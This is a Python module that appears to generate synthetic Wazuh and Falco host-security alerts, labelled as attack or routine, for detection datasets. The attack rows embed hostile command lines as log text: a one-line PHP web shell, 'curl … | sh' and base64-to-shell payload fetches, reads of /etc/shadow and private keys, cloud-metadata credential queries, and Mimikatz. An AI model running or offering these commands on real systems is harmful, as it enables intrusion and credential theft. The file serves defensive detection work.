"""Host sensors, honeypots and web filters, serious and harmless."""

from __future__ import annotations

from generator.families.alerts.host_records import falco_writer, wazuh_writer
from generator.scene import Scene, attack, benign, family
from generator.world import World


@family("alerts/wazuh-serious", attack=True, weight=1.3)
def wazuh_serious(world: World) -> Scene:
    address = world.ip_public()
    rows = [
        (attack("SSH Brute Force Attack", "T1110.001", severity="HIGH"), 10, "sshd: brute force trying to get access to the system.", "syslog,sshd,authentication_failures", f"Failed password for invalid user oracle from {address} port {world.port()} ssh2; 8 failures in 120 seconds"), (attack("SSH Brute Force Attack — SUCCESSFUL LOGIN", "T1110.001", "T1078", severity="CRITICAL"), 12, "Multiple authentication failures followed by a success.", "authentication_failures,authentication_success", f"Accepted password for root from {address} port {world.port()} ssh2"), (attack("Malware Detected", "T1204.002", severity="CRITICAL"), 12, "VirusTotal: Alert - /tmp/kinsing - 48 engines detected this file", "virustotal", "positives 48 of 64"), (attack("Defense Evasion", "T1014", severity="CRITICAL"), 11, "Host-based anomaly detection event (rootcheck).", "ossec,rootcheck", world.pick(["Rootkit 'Adore' detected by the presence of file '/dev/.kork'", "Process hidden from ps: pid 4412, Kernel-level rootkit possible", "Trojaned version of file '/bin/netstat' detected. Signature used: 'bash|^/bin/sh|/dev/[^n]'"])), (attack("Persistence", "T1098.004", severity="HIGH"), 7, "Integrity checksum changed.", "ossec,syscheck", "File '/root/.ssh/authorized_keys' modified; changed: size,md5; user www-data, process /tmp/a"),
        (attack("Web Shell", "T1505.003", severity="CRITICAL"), 5, "File added to the system.", "ossec,syscheck", f"File '/var/www/html/uploads/{world.word(5)}.php' added; content: <?php system($_GET['c']);"), (attack("Credential Theft", "T1003.001", severity="CRITICAL"), 15, "Mimikatz command line detected", "sysmon,windows", "CommandLine: m.exe sekurlsa::logonpasswords exit"), (attack("Log Clearing", "T1070.001", severity="HIGH"), 12, "Windows audit log was cleared", "windows,log_clearing", f"EventID 1102 The audit log was cleared. Account Name: {world.user()}"), (attack("Denial of Service / DDoS Attack", "T1498", severity="HIGH"), 10, "Possible SYN flooding", "firewall,dos", "51233 SYN packets in 10 s to port 443"), (attack("Persistence", "T1136.001", severity="HIGH"), 8, "New user added to the system", "syslog,adduser", "new user: name=sysd, UID=0, GID=0, home=/tmp"), (attack("Automated Reconnaissance / Vulnerability Scanning", "T1595.002", severity="MEDIUM"), 10, "Multiple web server 400 error codes from same source ip.", "web,attack", f"{address} \"GET /.env HTTP/1.1\" 404; \"GET /phpmyadmin/ HTTP/1.1\" 404; \"GET /shell.php\" 404"),
    ]
    label, level, rule, groups, log = world.pick(rows)
    scene, write = Scene(), wazuh_writer(world)
    for _ in range(world.pick([1, 1, 2, 3])):
        world.tick(1, 120)
        scene.add(write(level, rule, groups, log), label)
    return scene


@family("alerts/wazuh-routine", attack=False, weight=1.5)
def wazuh_routine(world: World) -> Scene:
    rows = [
        ("User Login", 3, "sshd: authentication success.", "syslog,sshd,authentication_success", f"Accepted publickey for {world.user()} from {world.ip()} port {world.port()} ssh2"), ("Mistyped Password", 5, "PAM: User login failed.", "pam,syslog,authentication_failed", f"pam_unix(sshd:auth): authentication failure; user={world.user()}"), ("Administration", 4, "Successful sudo to ROOT executed.", "syslog,sudo", f"{world.user()} : TTY=pts/0 ; COMMAND=/usr/bin/apt upgrade"), ("Software Update", 7, "New dpkg (Debian Package) installed.", "syslog,dpkg,config_changed", "status installed openssl:amd64 3.0.13"), ("Software Update", 7, "Integrity checksum changed.", "ossec,syscheck", "File '/usr/bin/curl' modified; changed: size,mtime,sha256; user root, process /usr/bin/dpkg"), ("Administration", 7, "Integrity checksum changed.", "ossec,syscheck", "File '/etc/nginx/nginx.conf' modified; changed: size,md5; user root, process /usr/bin/vim"), ("Authorised Scan", 3, "CIS benchmark: Ensure SSH root login is disabled: failed", "sca", "policy cis_ubuntu22-04, score 61%"), ("Authorised Scan", 13, "CVE-2024-3094 affects xz-utils", "vulnerability-detector", "Package version less than 5.6.1, severity Critical"), ("System Activity", 3, "Wazuh agent started.", "ossec", "Agent started"), ("Monitoring Probe", 3, "Wazuh agent disconnected.", "ossec", "Agent disconnected, keepalive lost"), ("Application Error", 5, "Apache: segmentation fault.", "apache", "child pid 4411 exit signal Segmentation fault (11)"), ("System Activity", 7, "Host-based anomaly detection event (rootcheck).", "ossec,rootcheck", "File '/dev/shm/PostgreSQL.1' is present on /dev. Possible hidden file."),
        ("Authorised Scan", 3, "VirusTotal: no positives found", "virustotal", "positives 0 of 70"), ("Blocked Noise", 4, "Firewall drop event.", "firewall,firewall_drop", f"DROP SRC={world.ip_public()} DPT=23 PROTO=TCP"), ("Scheduled Job", 2, "Unknown problem somewhere in the system.", "syslog,errors", "CRON error: mail not delivered: nobody to send to"), ("Mistyped Password", 5, "Logon failure - Unknown user or bad password", "windows,authentication_failed", "An account failed to log on. Logon type 2"), ("Administration", 8, "New user added to the system", "syslog,adduser", f"new user: name={world.user()}, UID=1007, GID=1007, home=/home, shell=/bin/bash"), ("Normal Traffic", 5, "Web server 400 error code.", "web,accesslog", '"GET /favicon.ico HTTP/1.1" 404'),
    ]
    scene, write = Scene(), wazuh_writer(world)
    for kind, level, rule, groups, log in world.some(rows, 1, world.pick([1, 1, 2, 3])):
        world.tick(1, 600)
        scene.add(write(level, rule, groups, log), benign(kind))
    return scene


@family("alerts/falco-serious", attack=True)
def falco_serious(world: World) -> Scene:
    rows = [(attack("OS Command Injection Attempt", "T1059.004", severity="CRITICAL"), "Run shell untrusted", "shell spawned by untrusted binary; user=www-data parent=php-fpm cmdline=sh -c curl http://" + world.ip_public() + "/a|sh"), (attack("Privilege Escalation", "T1611", severity="CRITICAL"), "Launch Privileged Container with host mount", "command=nsenter -t 1 -m -u -n sh mount=/ image=alpine"), (attack("Credential Theft", "T1003.008", severity="HIGH"), "Read sensitive file untrusted", "file=/etc/shadow program=python3 parent=httpd cmdline=python3 -c open('/etc/shadow').read()"), (attack("Cryptomining", "T1496.001", severity="HIGH"), "Detect outbound connections to common miner pool ports", "cmdline=xmrig -o pool.minexmr.com:4444 proc.exepath=/tmp/xmrig"), (attack("Command and Control", "T1105", severity="HIGH"), "Drop and execute new binary in container", "exe=/tmp/.d/kdevtmpfsi flags=EXE_UPPER_LAYER parent=redis-server"), (attack("Command and Control", "T1095", severity="CRITICAL"), "Redirect STDOUT/STDIN to Network Connection in Container", f"process=bash parent=node fd.sip={world.ip_public()} fd.sport=4444"), (attack("Log Clearing", "T1070.002", severity="HIGH"), "Clear Log Activities", "file=/var/log/auth.log command=truncate -s 0 user=www-data"), (attack("Credential Theft", "T1552.005", severity="HIGH"), "Contact cloud metadata service from container", "command=curl http://169.254.169.254/latest/meta-data/iam/security-credentials/ parent=php-fpm"), (attack("Command and Control", "T1105", severity="HIGH"), "Package management process launched in container", "user=root cmdline=apt-get install -y netcat nmap parent=java image=shop"), (attack("Suspicious Script", "T1059.004", severity="HIGH"), "Terminal shell in container", "user=root cmdline=sh -c echo Y3VybCAt|base64 -d|sh parent=redis-server"), (attack("Credential Theft", "T1552.004", severity="HIGH"), "Search private keys or passwords", "command=grep -r 'BEGIN RSA' /home /root parent=php-fpm"), (attack("Credential Theft", "T1552.007", severity="HIGH"), "Contact K8S API Server From Container", "command=curl -k https://kubernetes.default/api/v1/secrets connection=443")]
    label, rule, output = world.pick(rows)
    scene, write = Scene(), falco_writer(world)
    for _ in range(world.pick([1, 1, 2])):
        world.tick()
        scene.add(write(world.pick(["Warning", "Critical", "Error", "Notice"]), rule, output), label)
    return scene


@family("alerts/falco-routine", attack=False)
def falco_routine(world: World) -> Scene:
    rows = [("Administration", "Terminal shell in container", "user=root cmdline=bash parent=runc"), ("Software Update", "Package management process launched in container", "cmdline=apk add --no-cache curl parent=buildkitd image=ci-build"), ("Monitoring Probe", "Read sensitive file untrusted", "file=/etc/shadow program=lynis parent=systemd cmdline=lynis audit system"), ("System Activity", "Contact K8S API Server From Container", "command=argocd-application-controller connection=443"), ("System Activity", "Container started with host mount", "image=falcosecurity/falco mount=/host/proc:ro"), ("Monitoring Probe", "Contact cloud metadata service from container", "command=aws-node ec2 instance identity parent=containerd-shim"), ("Scheduled Job", "Clear Log Activities", "file=/var/log/nginx/access.log command=logrotate /etc/logrotate.conf user=root"), ("Application Event", "Unexpected outbound connection destination", "command=node server.js connection=api.stripe.com:443"), ("Backup Job", "Search private keys or passwords", "command=restic backup /etc /home parent=cron"), ("Software Update", "Drop and execute new binary in container", "exe=/usr/local/bin/node flags=EXE_UPPER_LAYER parent=npm"), ("System Activity", "Launch Privileged Container with host mount", "command=node_exporter --path.rootfs=/host mount=/ image=prom/node-exporter"), ("Administration", "Run shell untrusted", "shell spawned by untrusted binary; user=www-data parent=php-fpm cmdline=sh -c /usr/sbin/sendmail -t -i"), ("System Activity", "Redirect STDOUT/STDIN to Network Connection in Container", "process=nginx parent=containerd-shim fd.sport=8080")]
    scene, write = Scene(), falco_writer(world)
    for kind, rule, output in world.some(rows, 1, world.pick([1, 1, 2])):
        world.tick()
        scene.add(write(world.pick(["Warning", "Critical", "Error", "Notice"]), rule, output), benign(kind))
    return scene
